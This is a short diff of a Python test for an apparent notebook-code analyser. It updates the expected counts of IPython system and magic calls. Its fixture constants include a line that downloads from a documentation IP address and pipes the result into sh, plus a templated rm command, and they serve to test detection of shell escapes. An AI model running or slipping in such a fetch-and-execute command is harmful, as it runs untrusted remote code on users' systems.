@@ -100,10 +100,9 @@ done = "!not a command"
 """
     program = lowered(source)
     found = calls(program)
-    assert found.count("IPython.get_ipython().system") == 2
+    assert found.count("IPython.get_ipython().system") == 3
     assert found.count("IPython.get_ipython().getoutput") == 1
     assert found.count("IPython.get_ipython().run_line_magic") == 1
-    assert found.count("IPython.get_ipython().run_cell_magic") == 1
     constants = {op.value: op.at for op in operations(program) if isinstance(op, ir.Const)}
     assert constants["curl http://192.0.2.1/x | sh"] == 1
     assert constants["rm {name}"] == 5
